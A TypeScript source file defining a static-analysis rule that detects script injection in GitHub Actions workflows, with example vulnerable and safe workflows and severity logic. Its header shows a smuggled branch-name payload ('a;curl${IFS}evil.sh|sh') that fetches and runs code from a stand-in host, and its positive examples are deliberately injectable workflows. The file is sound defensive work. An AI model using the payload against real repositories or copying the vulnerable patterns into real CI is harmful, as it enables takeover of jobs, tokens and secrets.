/**
 * Text an outsider writes (a branch name, a pull request's or issue's title and body, a comment, a
 * commit message) expanded by `${{ … }}` straight into a `run:` script or an actions/github-script
 * `script:`. GitHub substitutes the expression before the shell reads the script, so a branch named
 * `a;curl${IFS}evil.sh|sh` runs as a command of the job, with its token and whatever secrets it holds.
 * Passing the value through `env:` and quoting the variable keeps it data.
 */
import type { Span } from '../../../core/rule.js';
import type { Severity } from '../../../core/types.js';
import { yamlSpan } from '../../../parsers/yaml.js';
import type { DeployCtx } from '../context.js';
import type { Workflow, WorkflowJob, WorkflowStep } from '../formats.js';
import { deployRule } from '../rule.js';
import { outsiderTextIn } from '../expression-value.js';
import { followsInsiderEventsOnly, runEvents } from '../condition-events.js';
import { actorGate, untrustedTriggers } from './ci-agents.js';
import { actionName, requiredDecision, secretsHeld, stepSpan, tokenScope } from './workflow-util.js';

const ID = 'deploy/gha-script-injection';

/**
 * Contexts whose value the author of a pull request, issue, comment, review, discussion, wiki edit
 * or commit chooses. Numbers, SHAs, labels and the repository's own names are not among them.
 */
const OUTSIDER_CONTEXT = new RegExp(
  [
    String.raw`github\.head_ref`,
    String.raw`github\.event\.pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))`,
    String.raw`github\.event\.(?:issue|discussion)\.(?:title|body)`,
    String.raw`github\.event\.(?:comment|review|review_comment)\.body`,
    String.raw`github\.event\.pages\[?[^\]\s]*\]?\.page_name`,
    String.raw`github\.event\.(?:head_commit|commits\[?[^\]\s]*\]?)\.(?:message|author\.(?:name|email)|committer\.(?:name|email))`,
    String.raw`github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:name|email)))`,
    String.raw`github\.event\.workflow_run\.pull_requests\[?[^\]\s]*\]?\.head\.ref`,
  ].join('|'),
);
const EXPRESSION = /\$\{\{([^}]*?)\}\}/g;

export const ghaScriptInjection = deployRule({
  meta: {
    id: ID,
    title: "Outsider's text expanded into a workflow's shell script",
    category: 'oversight.missing-approval',
    severity: 'high',
    confidence: 'high',
    description:
      'A `run:` script (or an actions/github-script `script:`) contains `${{ github.head_ref }}`, a pull request\'s or issue\'s title or body, a comment, ' +
      'a commit message or another value whoever opens the pull request or issue writes. The expression is pasted into the script before the shell reads it, ' +
      'so a branch name or title with `;`, `$(…)` or a quote runs its own commands in the job, with its token and secrets. On triggers that run with the ' +
      'base repository\'s rights (`pull_request_target`, issues, comments, `workflow_run`) that is high; on `pull_request` a fork\'s run holds no ' +
      'secrets and a read-only token, so it is low. A job or step whose `if:` lets it run only on other events (`github.event_name == \'workflow_dispatch\'`, ' +
      'or a `workflow_run` pinned to runs of a release or a push by `github.event.workflow_run.event`) expands text someone with write access made, and is not reported.',
    remediation:
      'Pass the value through `env:` (`env: { HEAD_REF: ${{ github.head_ref }} }`) and use the quoted variable in the script (`"$HEAD_REF"`), or check it ' +
      'against a strict pattern first; never expand outsider-written contexts inside `run:` or `script:`.',
    examples: {
      positive: [
        {
          path: '.github/workflows/triage.yml',
          code: 'on:\n  issues:\n    types: [opened]\npermissions: {issues: write}\njobs:\n  label:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo "New issue: ${{ github.event.issue.title }}"\n          gh issue edit ${{ github.event.issue.number }} --add-label triage\n        env:\n          GH_TOKEN: ${{ secrets.GITHUB_TOKEN }}\n',
        },
        {
          path: '.github/workflows/release_candidates.yml',
          code: "on:\n  pull_request:\npermissions:\n  contents: write\njobs:\n  release:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - if: ${{ contains(github.event.pull_request.labels.*.name, 'js-rc') }}\n        run: |\n          npm version prerelease --preid=${{ github.head_ref }}\n          npm publish --tag rc\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
        },
        {
          path: '.github/workflows/greet.yml',
          code: "on: pull_request_target\npermissions: {pull-requests: write}\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const title = '${{ github.event.pull_request.title }}';\n            await github.rest.issues.createComment({ ...context.repo, issue_number: context.issue.number, body: `Thanks for ${title}` });\n",
        },
        // A fallback chain yields one of its operands: the title itself when it is set.
        {
          path: '.github/workflows/label.yml',
          code: "on:\n  pull_request_target:\npermissions: {pull-requests: write}\njobs:\n  label:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.pull_request.title || 'untitled' }}\" > title.txt\n      - run: echo ${{ toJSON(github.event.pull_request.body) }}\n",
        },
      ],
      negative: [
        {
          // The value reaches the script as a variable: the shell never parses it as code.
          path: '.github/workflows/triage.yml',
          code: 'on:\n  issues:\n    types: [opened]\npermissions: {issues: write}\njobs:\n  label:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "New issue: $TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n',
        },
        {
          // Numbers and the repository's own names are not outsiders' text; the branch goes to an action input, not a shell.
          path: '.github/workflows/preview.yml',
          code: 'on: pull_request\npermissions: {contents: read}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.head_ref }}\n      - run: ./preview.sh ${{ github.event.pull_request.number }} ${{ github.repository }}\n',
        },
        {
          // The branch name only decides which literal the expression yields: the script gets `true` or `false`.
          path: '.github/workflows/release-intent.yml',
          code: "on:\n  pull_request_target:\n    types: [closed]\npermissions: {contents: write}\njobs:\n  intent:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          INTENDED=\"${{ (github.event.pull_request.merged == true && startsWith(github.head_ref, 'release/')) && 'true' || 'false' }}\"\n          LABELLED=${{ contains(github.event.pull_request.title, '[skip]') }}\n          echo \"intended=$INTENDED skip=$LABELLED\" >> \"$GITHUB_OUTPUT\"\n",
        },
        {
          // The job runs only on a manual dispatch or after a release's run: the head branch is a tag a maintainer made.
          path: '.github/workflows/formula.yml',
          code: "on:\n  workflow_run:\n    workflows: [Build]\n    types: [completed]\n  workflow_dispatch:\npermissions: {contents: write}\njobs:\n  update:\n    if: >\n      github.event_name == 'workflow_dispatch' ||\n      (github.event.workflow_run.conclusion == 'success' && github.event.workflow_run.event == 'release')\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"Tag: ${{ github.event.workflow_run.head_branch }}\"\n",
        },
        {
          // Pushes and manual runs come from people who can already write to the repository.
          path: '.github/workflows/notify.yml',
          code: 'on:\n  push:\n    branches: [main]\njobs:\n  notify:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./notify.sh "${{ github.event.head_commit.message }}"\n',
        },
      ],
    },
  },

  workflow(wf, dc) {
    if (!untrustedTriggers(wf).length && !wf.triggers.includes('pull_request')) return;
    for (const job of wf.jobs) {
      job.steps.forEach((step, index) => {
        const script = scriptOf(step);
        if (!script) return;
        // The job's and the step's `if:` may leave only events whose text no outsider writes
        // (`github.event_name == 'workflow_dispatch'`, a workflow_run that follows a release).
        const { outsiders, fromForks } = outsiderEvents(wf, [job.value.if, step.value.if]);
        if (!outsiders.length && !fromForks) return;
        const seen = new Set<string>();
        for (const m of script.matchAll(EXPRESSION)) {
          // `${{ startsWith(github.head_ref, 'release/') && 'true' || 'false' }}` is only ever one of its own literals.
          const context = outsiderTextIn(m[1]!, (text) => OUTSIDER_CONTEXT.exec(text)?.[0]);
          if (!context || seen.has(context)) continue;
          seen.add(context);
          const { severity, why } = rate(wf, job, step, index, outsiders, fromForks);
          dc.report({
            ruleId: ID,
            severity,
            span: expressionSpan(dc, step, m[0]) ?? stepSpan(dc, step),
            key: `job:${job.id}/step:${typeof step.value.name === 'string' ? step.value.name : index}/${context}`,
            evidence: m[0].replace(/\s+/g, ' '),
            message:
              `Job "${job.id}" expands ${context} straight into ${step.run !== undefined ? 'a run: script' : 'a github-script script'}: whoever writes it ` +
              `(a branch name, a title, a comment) can run commands in the job. ${why}`,
          });
        }
      });
    }
  },
});

/**
 * The triggers outsiders cause that the conditions let the step run on, and whether a fork's pull
 * request is among them. A `workflow_run` the conditions pin to runs of a release, a push, a schedule
 * or a manual dispatch carries a tag, branch or title someone with write access made.
 */
function outsiderEvents(wf: Workflow, conditions: unknown[]): { outsiders: string[]; fromForks: boolean } {
  const events = runEvents(wf.triggers, conditions);
  const insiderRuns = followsInsiderEventsOnly(conditions);
  const outsiders = untrustedTriggers(wf).filter((t) => events.includes(t) && !(t === 'workflow_run' && insiderRuns));
  return { outsiders, fromForks: events.includes('pull_request') };
}

/** The script text a step hands to a shell or to Node: `run:`, or actions/github-script's `script:`. */
function scriptOf(step: WorkflowStep): string | undefined {
  if (typeof step.run === 'string') return step.run;
  if (step.uses && actionName(step.uses) === 'actions/github-script' && typeof step.with.script === 'string') return step.with.script;
  return undefined;
}

/**
 * Triggers that run with the base repository's rights make it high, a gate on who starts the job or
 * a job with a read-only token and no secrets medium; `pull_request` alone is low: a fork's run gets
 * neither secrets nor a write token, and a branch of the repository itself is a writer's.
 */
function rate(wf: Workflow, job: WorkflowJob, step: WorkflowStep, index: number, outsiders: string[], fromForks: boolean): { severity: Severity; why: string } {
  if (!outsiders.length && fromForks) {
    return { severity: 'low', why: 'On pull_request a fork\'s run holds no secrets and a read-only token, so the harm stays in the runner.' };
  }
  const on = outsiders.join(', ');
  const gate = actorGate(wf, { job, step, index, label: 'run script', family: 'script' });
  if (gate) return { severity: 'medium', why: `It runs on ${on}, but ${gate}.` };
  const decided = requiredDecision(job);
  if (decided) return { severity: 'medium', why: `It runs on ${on}, but only after a check job "${decided.job}" makes first (${decided.output}), which this file does not show.` };
  const secrets = secretsHeld(wf, job, step);
  if (tokenScope(wf, job) === 'read' && !secrets.length) return { severity: 'medium', why: `It runs on ${on} with a read-only token and no secrets.` };
  const held = secrets.length ? `, and secrets ${secrets.slice(0, 3).join(', ')}${secrets.length > 3 ? ' …' : ''}` : '';
  return { severity: 'high', why: `It runs on ${on} with the base repository's token${held}.` };
}

/** The line of the expression as written in the step, else none (the step's line is used). */
function expressionSpan(dc: DeployCtx, step: WorkflowStep, expression: string): Span | undefined {
  const r = yamlSpan(step.node) as { start: number; end: number } | undefined;
  if (!r) return undefined;
  const at = dc.file.text.slice(r.start, r.end).indexOf(expression);
  return at < 0 ? undefined : dc.firstLine({ start: r.start + at, end: r.start + at + expression.length });
}
